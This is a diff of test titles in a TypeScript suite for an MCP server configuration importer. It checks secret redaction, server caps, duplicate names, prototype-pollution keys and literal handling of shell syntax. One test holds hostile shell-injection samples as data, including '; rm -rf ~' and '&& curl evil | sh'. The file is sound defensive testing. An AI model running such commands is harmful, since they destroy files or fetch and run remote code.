@@ -37,7 +37,7 @@ describe('a hostile configuration', () => {
     expect((error as Error).message.length).toBeLessThan(400)
   })
 
-  it('is not said again in what is wrong with it: it may hold keys', async () => {
+  it('is not quoted in its error, since it may hold keys', async () => {
     for (const [text, format] of [
       ['key = "sk-0123456789abcdef0123"\nbad = = "sk-0123456789abcdef0123"', 'toml'],
       ['a: "sk-0123456789abcdef0123\n b: [', 'yaml'],
@@ -47,12 +47,12 @@ describe('a hostile configuration', () => {
     }
   })
 
-  it('of 10,000 servers is refused with the number that can be brought along', async () => {
+  it('of 10,000 servers is refused with the number that can be imported', async () => {
     await expect(claude(many(10_000))).rejects.toThrow(`It has 10000 servers; at most ${MAX_AT_ONCE} can`)
     expect((await claude(many(MAX_AT_ONCE))).servers).toHaveLength(MAX_AT_ONCE)
   })
 
-  it('with one bad entry gives the others', async () => {
+  it('with one bad entry yields the others', async () => {
     const { servers, unusable } = await claude({
       good: { command: 'x' },
       empty: {},
@@ -75,7 +75,7 @@ describe('a hostile configuration', () => {
     ])
   })
 
-  it('with a name twice says so, and the last one counts, as for its host', async () => {
+  it('with a repeated name says so, and the last entry counts, as in its host', async () => {
     const { servers, unusable } = await readHostConfig(
       'cursor',
       '{"mcpServers":{"a":{"command":"x"},"a":{},"a":{"command":"y"}}}',
@@ -84,7 +84,7 @@ describe('a hostile configuration', () => {
     expect(unusable).toEqual([{ called: 'a', why: 'Its name appears twice; the last one counts.' }])
   })
 
-  it('changes no object by its names', async () => {
+  it('changes no object through its names', async () => {
     const text =
       '{"mcpServers":{"__proto__":{"command":"x","env":{"__proto__":"y","constructor":"z"}},"constructor":{"command":"c"}}}'
     const { servers } = await readHostConfig('claude-desktop', text)
@@ -100,7 +100,7 @@ describe('a hostile configuration', () => {
     expect({}).not.toHaveProperty('cmd')
   })
 
-  it('with what a shell would act on keeps it as it is', async () => {
+  it('keeps shell syntax as plain text', async () => {
     const args = ['$(touch /tmp/x)', '; rm -rf ~', '`id`', '&& curl evil | sh', '%PATH%', 'a\nb']
     expect((await claude({ a: { command: 'sh -c "x"', args } })).servers).toMatchObject([
       { launch: { command: 'sh -c "x"', args } },
@@ -126,12 +126,12 @@ describe('a pasted text', () => {
     expect(servers).toMatchObject([{ name: 'time', launch: { type: 'local', command: 'uvx', args: ['mcp-server-time'] } }])
   })
 
-  it('of one bare entry has no name', async () => {
+  it('of one bare entry yields a server without a name', async () => {
     expect(await names('{ "url": "https://x.example/mcp" }')).toEqual([''])
     expect(await names('{ "name": "docs", "url": "https://x.example/mcp" }')).toEqual(['docs'])
   })
 
-  it.each(['{ "a": 1 }', '{ "mcpServers": {} }', '[1]', '{}'])('of %j holds no servers', async (text) => {
+  it.each(['{ "a": 1 }', '{ "mcpServers": {} }', '[1]', '{}'])('of %j has no servers', async (text) => {
     expect(await readConfigurationText(text)).toMatchObject({ servers: [], unusable: [] })
   })
 
